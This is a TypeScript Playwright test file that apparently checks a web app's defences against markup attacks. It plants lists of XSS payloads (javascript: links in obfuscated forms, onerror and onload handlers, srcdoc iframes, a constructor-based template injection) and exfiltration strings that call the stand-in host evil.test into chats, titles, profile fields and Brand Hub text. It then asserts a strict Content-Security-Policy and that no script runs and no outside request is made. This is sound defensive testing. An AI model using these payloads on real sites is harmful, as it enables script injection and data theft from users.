import type { Page } from '@playwright/test';
import type { Person } from '../../../apps/server/src/testing/person.ts';
import type { AttackCase } from '../attack-case.ts';
import type { Attempts } from '../attempts.ts';
import { type Looker, openBrowser } from '../browser.ts';
import { send } from '../http.ts';
import type { World } from '../world.ts';
import { newIds, paying } from './content.ts';

const MISSION = 'userInfo.brandHub.brandCore.mission';
/** Ends every planted text, so that a page is judged only when it shows all of it. */
const MARK = 'end of the planted text';
const NAME = 'Evelina';
const run = 'window.wasRun=1';
const scripts = [
  `[a](javascript:${run})`,
  `[b](JaVaScRiPt:${run})`,
  `[c](<java\tscript:${run}>)`,
  `[d](javascript&colon;${run})`,
  `[e](&#106;avascript:${run})`,
  `[f][1]\n\n[1]: javascript:${run}`,
  `<javascript:${run}>`,
  `[g](data:text/html;base64,PHNjcmlwdD53aW5kb3cud2FzUnVuPTE8L3NjcmlwdD4=)`,
  `[h](vbscript:x) [i](\u0001javascript:${run})`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}" onclick="${run}">j</a>`,
  `<details open ontoggle="${run}"><summary>k</summary></details>`,
  `\`\`\`html\n<img src=x onerror="${run}">\n\`\`\``,
  `![l](javascript:${run})`,
  `"><script>${run}</script>`,
  '{{constructor.constructor("window.wasRun=1")()}}',
];
const exfiltration = [
  '![chart](https://evil.test/?d=secret)',
  '![chart](//evil.test/?d=secret)',
  '![chart][2]\n\n[2]: https://evil.test/b.png?d=secret',
  '[![x](https://evil.test/i.png)](https://evil.test/)',
  '<img src="https://evil.test/c.png"><link rel=prefetch href="https://evil.test/d">',
  '<video poster="https://evil.test/e.png"></video><audio src="https://evil.test/f"></audio>',
  '<style>@import "https://evil.test/g.css"; body{background:url(https://evil.test/h)}</style>',
  '<object data="https://evil.test/i"></object><embed src="https://evil.test/j">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/k">',
  '[a shop](https://evil.test/) https://evil.test/l www.evil.test',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '$$\\includegraphics{https://evil.test/m.png}$$',
];
const amounts = ['$2bn to $4bn', '100–200 лв.', '€5'];
/** Addresses of pages, whose policy must hold whether or not the web is built. */
const pages = ['/', '/chat', '/login', '/brandhub', '/admin', '/api/docs', '/nothing.html'];

export const markupCases: readonly AttackCase[] = [
  {
    number: 17,
    name: 'scripts in questions, answers, titles, names and the Brand Hub',
    run: (world, attempts) => plant(world, scripts, attempts),
  },
  {
    number: 18,
    name: 'texts that make the browser send something to another host',
    run: (world, attempts) => plant(world, exfiltration, attempts),
  },
];

async function plant(world: World, texts: readonly string[], attempts: Attempts): Promise<void> {
  await checkPolicy(world, attempts);
  const browser = world.isLong ? await openBrowser(world) : null;
  if (!browser) {
    world.note('the long form looks at the pages in Chromium, once the web is built');
    return;
  }
  const person = await paying(world);
  const chatId = await fillAccount(world, person, texts);
  const paths = [`/chat/${chatId}`, '/brandhub', '/profile'];
  try {
    const own = await browser.lookAs(person);
    await judge(own, 'the owner', paths, attempts);
    attempts.count += paths.length * texts.length;
    const viewer = await browser.lookAs(world.staff);
    await view(viewer.page, world.stage.server.url, person);
    await judge(viewer, 'staff', paths.slice(0, 2), attempts);
    attempts.count += 2 * texts.length;
  } finally {
    await browser.close();
  }
}

/** A policy that runs no inline script and loads nothing from elsewhere. */
async function checkPolicy({ stage }: World, attempts: Attempts): Promise<void> {
  for (const path of pages) {
    const { headers } = await send(stage.server, path, { method: 'GET' });
    const policy = headers.get('content-security-policy') ?? '';
    const isStrict =
      policy.includes("default-src 'none'") &&
      policy.includes("script-src 'self';") &&
      policy.includes("img-src 'self' data:;") &&
      policy.includes("base-uri 'none'") &&
      !/unsafe|\*|https?:/.test(policy);
    attempts.expect(`the policy of ${path}`, isStrict, policy);
    attempts.same(`sniffing ${path}`, headers.get('x-content-type-options'), 'nosniff');
  }
}

/** Plants the texts wherever a user or the model can write. */
async function fillAccount(
  world: World,
  person: Person,
  texts: readonly string[],
): Promise<string> {
  const all = [...texts, ...amounts, MARK].join('\n\n');
  world.answerWith((answer) => {
    answer.say(all);
    answer.finish();
  });
  const ids = newIds();
  await person.call('generateResponse', { ...ids, query: all });
  await person.call('renameChat', { chatId: ids.chatId, title: texts[0]?.slice(0, 100) ?? 'x' });
  await person.call('saveBrandField', { path: MISSION, value: all });
  await person.call('updateUser', { firstName: NAME, lastName: texts[9]?.slice(0, 70) ?? 'x' });
  return ids.chatId;
}

async function judge(
  looker: Looker,
  who: string,
  paths: readonly string[],
  attempts: Attempts,
): Promise<void> {
  for (const path of paths) {
    const { danger, text } = await looker.look(path, path === '/profile' ? NAME : MARK);
    for (const [kind, found] of Object.entries(danger)) {
      attempts.same(`${kind} at ${path}, seen by ${who}`, found, []);
    }
    if (!path.startsWith('/chat')) continue;
    for (const amount of amounts) {
      attempts.expect(`${amount}, seen by ${who}`, text.includes(amount), text);
    }
  }
  attempts.same(`requests to other hosts, for ${who}`, looker.requests, []);
  attempts.same(`dialogs, for ${who}`, looker.dialogs, []);
}

/** Opens the account of a person from the gallery. */
async function view(page: Page, url: string, { email }: Person): Promise<void> {
  await page.goto(`${url}/admin`);
  await page.getByRole('listitem').filter({ hasText: email }).getByRole('button').first().click();
  await page.waitForURL('**/chat');
}
